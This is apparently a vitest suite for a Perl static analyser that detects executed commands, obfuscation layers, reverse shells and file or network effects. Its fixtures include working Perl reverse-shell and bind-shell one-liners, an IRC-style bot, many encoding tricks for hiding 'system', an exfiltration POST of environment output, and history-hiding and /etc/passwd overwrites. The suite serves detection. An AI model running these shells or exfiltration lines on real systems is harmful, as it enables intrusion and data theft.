import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { effectLines, readingOf } from '../../../testing/reading-of.ts';
import type { Reading, ReadingInput } from '../../language.ts';
import { known, render, textOf } from '../../value.ts';
import { parsePerl } from './parse.ts';
import { perl } from './perl.ts';

function read(text: string, more: Partial<ReadingInput> = {}): Reading {
  return readingOf(perl, 'main.pl', text, more);
}

/** Lines that a shell is handed, and programs started with a list, also by code inside the code. */
function started(text: string, more: Partial<ReadingInput> = {}, levels = 4): string[] {
  const reading = read(text, more);
  const own = reading.commands.map(({ argv }) => {
    const words = argv.map(render);
    return words[0] === 'sh' && words[1] === '-c' ? (words[2] ?? '') : words.join(' ');
  });
  const piped = reading.nested
    .filter((each) => each.how === 'pipe' && each.language === 'shell')
    .map((each) => each.text);
  const inner = levels === 0 ? [] : reading.nested.filter((each) => each.language === 'perl');
  return [...own, ...piped, ...inner.flatMap((each) => started(each.text, more, levels - 1))];
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const bytes = (buffer: Buffer): string =>
  [...buffer].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');
const uuencoded = (text: string): string => {
  const content = Buffer.from(text.padEnd(Math.ceil(text.length / 3) * 3));
  let made = String.fromCharCode(32 + content.length);
  for (let at = 0; at < content.length; at += 3) {
    const [a = 0, b = 0, c = 0] = content.subarray(at, at + 3);
    for (const six of [a >> 2, ((a & 3) << 4) | (b >> 4), ((b & 15) << 2) | (c >> 6), c & 63])
      made += six === 0 ? '`' : String.fromCharCode(32 + six);
  }
  return made;
};

describe('syntax', () => {
  const cases: readonly (readonly [title: string, code: string])[] = [
    ['parentheses', 'system("id");'],
    ['none', 'system "id"'],
    ['a single quote', "system 'id';"],
    ['q and a bracket', 'system q(id);'],
    ['q and any sign', 'system q!id!;'],
    ['q and a comment sign', 'system q#id#;'],
    ['qq with nested brackets', 'my $x = "d"; system qq{i${x}};'],
    ['qw', 'system join "", qw/i d/;'],
    ['backticks', 'my $o = `id`;'],
    ['qx', 'my $o = qx{id};'],
    ['a here-document', 'system <<X;\nid\nX\n'],
    ['a plain here-document', "system <<'X' . '';\nid\nX\n"],
    ['an indented here-document', 'system <<~X;\n    id\n    X\n'],
    ['two here-documents in one line', 'print(<<A, <<B); system "id";\nx\nA\ny\nB\n'],
    ['code after pod', '=pod\n\nsystem "no";\n\n=cut\n\nsystem "id";\n'],
    ['a comment with quotes', "# don't\nsystem 'id'; # it's\n"],
    ['a modifier', 'system "id" if $ENV{X};'],
    ['unless', 'system "id" unless -e "/x";'],
    ['for behind', 'system $_ for "id";'],
    ['foreach', 'foreach my $c ("id") { system($c); }'],
    ['a counted loop', 'my @c = ("id"); for (my $i = 0; $i < @c; $i++) { system $c[$i]; }'],
    ['while and shift', 'my @c = ("id"); while (my $c = shift @c) { system $c; }'],
    ['an else branch', 'if ($x) { 1 } elsif ($y) { 2 } else { system "id" }'],
    ['a label', 'OUTER: for (1) { system "id"; last OUTER; }'],
    ['a function', 'sub go { system shift; } go("id");'],
    ['a function without parentheses', 'sub go { system $_[0]; } go "id";'],
    ['a function called before', 'go("id"); sub go { my ($c) = @_; system $c; }'],
    ['a signature', 'use feature "signatures"; sub go($c, $d = "x") { system $c } go("id");'],
    ['an anonymous function', 'my $f = sub { system @_ }; $f->("id");'],
    ['ampersand', 'my $f = sub { system @_ }; &$f("id");'],
    ['a table of functions', 'my %f = (go => sub { system "id" }); $f{go}->();'],
    ['a function nobody calls', 'sub never { system "id" }'],
    [
      'a method',
      'package A; sub go { my $s = shift; system $s->{c} } package main; my $o = bless { c => "id" }, "A"; $o->go;',
    ],
    [
      'indirect object',
      'package A; sub new { bless {}, shift } sub go { system "id" } package main; my $o = new A(); $o->go();',
    ],
    ['a method by name', 'package A; sub go { system "id" } package main; my $m = "g" . "o"; A->$m;'],
    ['an inner package', 'package A { sub go { system "id" } } A::go();'],
    ['BEGIN', 'BEGIN { system "id" }'],
    ['eval of a block', 'eval { system "id"; 1 } or die;'],
    ['do', 'my $x = do { "id" }; system $x;'],
    ['references', 'my @a = ("id"); my $r = \\@a; system $$r[0];'],
    ['deeper references', 'my $h = { a => [ { c => "id" } ] }; system $h->{a}[0]{c};'],
    ['containers that come to be', 'my %h; $h{a}{b}[0] = "id"; system $h{a}{b}[0];'],
    ['a slice', 'my @a = qw(x id y); system((@a)[1]);'],
    ['a hash slice', 'my %h = (a => "i", b => "d"); system join "", @h{qw(a b)};'],
    ['interpolation', 'my $h = { c => ["i"] }; system "$h->{c}[0]d";'],
    ['an expression in a text', 'system qq(@{[ "i" . "d" ]});'],
    ['swapping', 'my ($a, $b) = ("d", "i"); ($a, $b) = ($b, $a); system $a . $b;'],
    ['a ternary', 'my $c = 1 ? "id" : "ls"; system $c;'],
    ['a list with commas behind', 'my @c = ("id",); system(@c,);'],
    ['division and patterns', 'my $x = 10 / 2; my @y = split /,/, "a,b"; my $z = @y / 2; system "id";'],
    ['a pattern with a slash in a class', 'my $ok = $x =~ m{[/]"}; system "id";'],
    ['a format', 'format STDOUT =\n@<<< @>>>\n$a, $b\n.\nsystem "id";'],
    ['open with a pipe', 'open(P, "|id"); close P;'],
    ['open from a pipe', 'open(my $p, "-|", "id") or die;'],
    ['open with two arguments from a pipe', 'open P, "id |";'],
    ['printing to a shell', 'open(P, "|/bin/sh"); print P "id"; close(P);'],
    ['exec with another name', 'exec { "id" } "[kworker]";'],
    ['open3', 'use IPC::Open3; my $pid = open3(my $in, my $out, my $err, "id");'],
    ['behind __DATA__', 'while (my $l = <DATA>) { chomp $l; system $l }\n__DATA__\nid\n'],
    ['a handler', '$SIG{INT} = sub { system "id" };'],
    ['a bad statement before', 'my $x = = ;\nsystem "id";\n'],
    ['an odd brace before', '} system "id";'],
    ['sort with a block', 'system((sort { $b cmp $a } "a", "id")[0]);'],
    ['sprintf', 'system sprintf("%s%c", "i", 100);'],
    ['require and import', 'require POSIX; POSIX->import; system "id";'],
    ['a glob', '*run = sub { system @_ }; run("id");'],
    ['local', 'our $c = "ls"; { local $c = "id"; system $c; }'],
    ['a heredoc within a call', 'f(<<X, 1);\ntext (with "quotes\nX\nsystem "id";'],
    ['try and catch', 'use Try::Tiny; try { system "id" } catch { 1 };'],
    ['last of a known loop', 'for my $c (qw(x id y)) { next if $c eq "x"; last if $c eq "y"; system $c }'],
  ];
  test.each(cases)('%s', (_title, code) => {
    expect(started(code).map((line) => line.trim())).toContain('id');
  });

  test('what is no code is not read as code', () => {
    expect(started('print 1;\n__END__\nsystem "id";\n')).toEqual([]);
    expect(started('=head1 X\n\nsystem "id";\n')).toEqual([]);
    expect(started('my $x = "system(1)"; my $y = q{system "id"}; print <<X;\nsystem "id";\nX\n')).toEqual([]);
  });
});

describe('disguises', () => {
  const cases: readonly (readonly [title: string, code: string])[] = [
    ['joined', 'system("i" . "d");'],
    ['grown', 'my $c; $c .= "i"; $c .= "d"; system $c;'],
    ['chr', 'system chr(105) . chr(100);'],
    ['map and chr', 'system join "", map { chr } 105, 100;'],
    ['map and an expression', 'system join "", map chr($_ - 1), 106, 101;'],
    ['pack C', 'system pack "C*", 105, 100;'],
    ['pack H', `eval pack "H*", "${hex('system "id"')}";`],
    ['pack with a count', 'system pack("A2", "idle");'],
    ['pack N', 'system pack("n", 0x6964);'],
    ['unpack u', `eval unpack "u", q{${uuencoded('system("id");')}};`],
    ['unpack in groups', 'system join "", map { chr hex } unpack "(A2)*", "6964";'],
    ['hexadecimal escapes', 'system "\\x69\\x{64}";'],
    ['octal escapes', 'system "\\151\\144";'],
    ['case marks', 'system "\\LID\\E";'],
    ['lc', 'system lc "ID";'],
    ['lcfirst', 'system lcfirst "Id";'],
    ['reverse', 'system scalar reverse "di";'],
    ['reverse and split', 'system join "", reverse split //, "di";'],
    ['substr', 'system substr("xxidxx", 2, 2);'],
    ['tr', '(my $c = "vq") =~ tr/a-z/n-za-m/; system $c;'],
    ['y on $_', '$_ = "vq"; y/n-za-m/a-z/; system $_;'],
    ['tr that deletes', 'my $c = "i-d-"; $c =~ tr/-//d; system $c;'],
    ['tr that gives a result', 'system "vq" =~ tr/a-z/n-za-m/r;'],
    ['a substitution', 'my $c = "i%d"; $c =~ s/%//; system $c;'],
    ['a substitution with code', 'my $c = "69:64"; $c =~ s/([0-9a-f]{2}):?/chr hex $1/ge; system $c;'],
    ['a percent decoder', 'my $c = "%69%64"; $c =~ s/%([0-9A-F]{2})/pack("H2", $1)/eg; system $c;'],
    ['s///ee', `my $c = "x"; $c =~ s/x/'system("id")'/ee;`],
    ['a match that takes parts', '"run:id" =~ /^(\\w+):(\\w+)$/; system $2;'],
    ['a match in a list', 'my ($c) = "c=id;" =~ /c=(\\w+)/; system $c;'],
    ['named groups', '"c=id" =~ /c=(?<cmd>\\w+)/; system $+{cmd};'],
    ['all matches', 'system join "", "i.d." =~ /(\\w)/g;'],
    ['xor of texts', 'system "\\x08\\x06" ^ "ab";'],
    ['xor by a short key, padded', 'system "(d" ^ "A";'],
    ['xor of numbers', 'system join "", map { chr($_ ^ 1) } 104, 101;'],
    ['base64', `use MIME::Base64; eval decode_base64("${base64('system("id");')}");`],
    [
      'base64 by its whole name',
      `require MIME::Base64; eval MIME::Base64::decode_base64('${base64('system("id");')}');`,
    ],
    ['base64 twice', `use MIME::Base64; eval decode_base64 decode_base64 "${base64(base64('system("id");'))}";`],
    ['zlib', `use Compress::Zlib; eval uncompress("${bytes(deflateSync('system("id");'))}");`],
    [
      'gzip',
      `use IO::Uncompress::Gunzip qw(gunzip); my $z = "${bytes(gzipSync('system("id");'))}"; gunzip(\\$z => \\my $o); eval $o;`,
    ],
    ['eval of text', 'eval "system(\'id\')";'],
    ['eval of text with a variable', 'my $c = "id"; eval \'system $c\';'],
    ['eval that gives a value', 'my $c = eval(q("i")) . eval(q("d")); system $c;'],
    ['eval of $_', '$_ = q{system "id"}; eval;'],
    ['eval and a here-document', 'eval <<"X";\nsystem "id";\nX\n'],
    ['a function by its name', 'my $n = "sys" . "tem"; &{"CORE::$n"}("id");'],
    ['a function by a reference to it', 'my $f = \\&CORE::system; $f->("id");'],
    ['a symbol', 'sub go { system "id" } no strict "refs"; &{"go"}();'],
    ['ranges', 'my @l = ("a" .. "z"); system $l[8] . $l[3];'],
    ['indices', 'my $k = "abcdefghi"; system join "", map { substr($k, $_, 1) } 8, 3;'],
    ['a hash of characters', 'my %m = (1 => "i", 2 => "d"); system join "", map { $m{$_} } split //, "12";'],
    ['keys sorted', 'my %h = (2 => "d", 1 => "i"); system join "", map { $h{$_} } sort { $a <=> $b } keys %h;'],
    ['repeat', 'system "i" x 1 . "d";'],
    ['a version string', 'system v105.100;'],
    ['sprintf of a vector', 'system join "", map { chr } split /\\./, sprintf "%vd", "id";'],
    ['a loop over characters', 'my $c = ""; for my $x (split //, "hc") { $c .= chr(ord($x) + 1) } system $c;'],
    ['oct', 'system chr(oct "0151") . chr(oct "0x64");'],
    ['the environment of the image', 'system $ENV{CMD};'],
    ['arguments', 'system "@ARGV";'],
    ['shift of arguments', 'my $c = shift; system $c;'],
    ['a constant', 'use constant CMD => "id"; system CMD;'],
    ['constants in a block', 'use constant { A => "i", B => "d" }; system A . B;'],
    ['a default', 'my $c = undef // "id"; system $c;'],
    ['local $_', 'for (my @t = ("di")) { $_ = reverse; system $_ }'],
    ['itself', 'open(F, $0); my @l = <F>; system $l[1];'],
  ];
  test.each(cases)('%s', (_title, code) => {
    const more = {
      env: new Map([['CMD', known('id')]]),
      args: [known('/app/main.pl'), known('id')],
      readFile: (path: string) => (path === '/app/main.pl' ? 'x\nid\n' : undefined),
    };
    expect(started(code, more).map((line) => line.trim())).toContain('id');
  });

  test('layers are named', () => {
    const reading = read(`use MIME::Base64; eval decode_base64("${base64('system("id");')}");`);
    expect(reading.nested.map((each) => each.decoded.map((step) => step.decoder))).toEqual([['base64']]);
    expect(effectLines(reading)).toEqual(['run what=system("id"); interpreter=perl from=decoded']);
  });

  test('source filters are code that cannot be read', () => {
    expect(effectLines(read('use Acme::Bleach;\n \t \t\t  \t'))).toEqual([
      'run what=‹Acme::Bleach› interpreter=perl from=decoded',
    ]);
    expect(effectLines(read('use Filter::decrypt;\nxxxx'))[0]).toContain('from=decoded');
  });
});

describe('sockets', () => {
  const shells: readonly (readonly [title: string, code: string, socket: string])[] = [
    [
      'streams reopened',
      'use Socket;$i="192.0.2.4";$p=8443;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'fdopen and a loop',
      '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.4:8443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'a loop over the socket',
      'use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.4", PeerPort => 8443); while (my $l = <$s>) { chomp $l; my $o = `$l 2>&1`; print $s $o; }',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'recv and eval',
      'my $s = IO::Socket::INET->new("192.0.2.4:8443"); $s->recv(my $b, 1024); eval $b;',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'dup2',
      'use POSIX; my $s = IO::Socket::INET->new(PeerAddr=>"192.0.2.4",PeerPort=>"8443"); POSIX::dup2(fileno($s), $_) for 0..2; exec "/bin/bash", "-i";',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'a descriptor by its number',
      'use Socket; $^F = 255; socket(S,2,1,6); connect(S,sockaddr_in(8443,inet_aton("192.0.2.4"))); exec "/bin/sh -i <&3 >&3 2>&3";',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'a bot',
      'my $q = IO::Select->new; my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.4", PeerPort => 8443); $q->add($s); while (1) { for my $h ($q->can_read(1)) { sysread($h, my $m, 4096); for (split /\\n/, $m) { go($1) if /^:\\S+ PRIVMSG \\S+ :!(.*)/ } } } sub go { my $c = shift; my @o = `$c 2>&1`; }',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'an address in bytes',
      'socket(S,2,1,6); connect(S, pack("Sna4x8", 2, 8443, pack("C4", 192, 0, 2, 4))); open STDIN, "<&S"; open STDOUT, ">&S"; exec "sh";',
      'connect to={host=192.0.2.4 port=8443',
    ],
    [
      'waiting',
      'use Socket; socket(S,PF_INET,SOCK_STREAM,6); bind(S,sockaddr_in(4444,INADDR_ANY)); listen(S,3); while(accept(C,S)){ open STDIN,"<&C"; open STDOUT,">&C"; exec "/bin/sh -i" }',
      'port=4444',
    ],
    [
      'waiting with an object',
      'my $l = IO::Socket::INET->new(Listen=>1, LocalPort=>4444); my $c = $l->accept; while (<$c>) { print $c qx($_) }',
      'listen at={host=0.0.0.0 port=4444',
    ],
  ];
  test.each(shells)('a shell: %s', (_title, code, socket) => {
    const found = effectLines(read(code)).filter((effect) => effect.includes('shell='));
    expect(found).toHaveLength(1);
    expect(found[0]).toContain(socket);
  });

  test.each([
    [
      'a client',
      'my $s = IO::Socket::INET->new(PeerAddr => "db", PeerPort => 5432); print $s "x"; my $a = <$s>; system "ls";',
    ],
    [
      'a server',
      'my $l = IO::Socket::INET->new(Listen=>1, LocalPort=>80); while (my $c = $l->accept) { print $c "hello" } system "ls";',
    ],
  ])('no shell: %s', (_title, code) => {
    expect(effectLines(read(code)).filter((effect) => effect.includes('shell='))).toEqual([]);
  });
});

describe('effects', () => {
  const cases: readonly (readonly [code: string, effects: readonly string[]])[] = [
    ['unlink "/a", "/b";', ['delete path=/a', 'delete path=/b']],
    ['chmod 0755, "/a";', ['chmod path=/a mode=0755']],
    ['use File::Path; rmtree("/var/log");', ['delete path=/var/log recursive=true']],
    ['symlink "/a", "/etc/x"; rename "/tmp/x", "/etc/passwd";', ['write path=/etc/x', 'write path=/etc/passwd']],
    ['use File::Copy; copy("/a", "/etc/x");', ['write path=/etc/x']],
    ['open(F, ">/etc/x"); print F "a", "b\\n"; printf F "%d", 3; close F;', ['write path=/etc/x content=ab\n3']],
    ['open F, ">>", "/etc/x"; say F "a";', ['append path=/etc/x content=a\n']],
    ['sysopen(F, "/etc/x", O_WRONLY|O_CREAT); syswrite F, "a";', ['write path=/etc/x content=a']],
    ['open(my $f, ">", \\my $buffer); print $f "a";', []],
    ['kill "TERM", 42; kill 0, 43;', ['kill pattern=42']],
    ['$ENV{LD_PRELOAD} = "/x.so";', ['preload library=/x.so how=environment']],
    ['$ENV{HISTFILE} = "/dev/null";', ['impair what=history detail=HISTFILE=/dev/null']],
    ['chroot "/host";', ['escape how=chroot detail=/host']],
    [
      'use LWP::Simple; getstore("http://203.0.113.9/x", "/x");',
      ['fetch url=http://203.0.113.9/x to=/x tool=perl LWP::Simple'],
    ],
    [
      'my $r = HTTP::Tiny->new->mirror("http://203.0.113.9/x", "/x");',
      ['fetch url=http://203.0.113.9/x to=/x tool=perl HTTP::Tiny'],
    ],
    [
      'my $ua = LWP::UserAgent->new; $ua->get("http://203.0.113.9/x", ":content_file" => "/x");',
      ['fetch url=http://203.0.113.9/x to=/x tool=perl LWP::UserAgent'],
    ],
    [
      'my $ua = LWP::UserAgent->new; my $q = HTTP::Request->new(POST => "http://203.0.113.9/x"); $q->content(`env`); $ua->request($q);',
      ['exfiltrate to=http://203.0.113.9/x what=‹output›'],
    ],
  ];
  test.each(cases)('%s', (code, expected) => {
    expect(effectLines(read(code))).toEqual(expected);
  });

  test('files of the image are loaded where the text says modules are', () => {
    const readFile = (path: string): string | undefined =>
      ['/opt/lib/Foo/Bar.pm', '/app/x.pl'].includes(path) ? '1;' : undefined;
    const { loads } = read('use lib "/opt/lib"; use strict; use Foo::Bar; do "./x.pl";', { readFile });
    expect(loads.map((load) => load.path)).toEqual(['/opt/lib/Foo/Bar.pm', '/app/x.pl']);
  });

  test('what a program reads is known to it', () => {
    const [crontab] = read('open(P, "|crontab -"); print P "* * * * * id\\n"; close P;').commands;
    expect(crontab?.argv.map((word) => textOf(word))).toEqual(['crontab', '-']);
    expect(render(crontab?.stdin ?? [])).toBe('* * * * * id\n');
  });
});

describe('bounds', () => {
  test('nonsense gives no error and goes on', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (noise) => {
        expect(Array.isArray(read(noise).commands)).toBe(true);
      }),
      { numRuns: 200 },
    );
  });

  test.each([
    ['brackets', '('.repeat(50_000)],
    ['braces', '{'.repeat(50_000)],
    ['references', '\\'.repeat(50_000)],
    ['choices', '1?'.repeat(50_000)],
    ['texts in texts', '"@{['.repeat(20_000)],
    ['open quotes', 'q{'.repeat(50_000)],
    ['here-documents without end', '<<A . '.repeat(20_000)],
    ['patterns', 'x =~ /a'.repeat(20_000)],
    ['sigils', '$'.repeat(100_000)],
    ['arrows', `$x${'->[0]'.repeat(20_000)}`],
  ])('deep or endless: %s', (_title, code) => {
    const before = performance.now();
    read(code);
    expect(performance.now() - before).toBeLessThan(3_000);
  });

  test('a pattern that would take for ever is given up', () => {
    const before = performance.now();
    expect(started(`my $x = "${'a'.repeat(5_000)}!"; $x =~ /^(a+)+$/; system "id";`)).toContain('id');
    expect(performance.now() - before).toBeLessThan(3_000);
  });

  test('a long join is one text, not a deep tree', () => {
    expect(started(`system ${Array.from({ length: 3_000 }, () => '""').join(' . ')} . "id";`)).toContain('id');
  });

  test('unparsed statements are counted', () => {
    expect(parsePerl('my $x = 1; print "a";').unparsed).toBe(0);
    expect(parsePerl('my $x 1 2; print "a";').unparsed).toBeGreaterThan(0);
  });
});
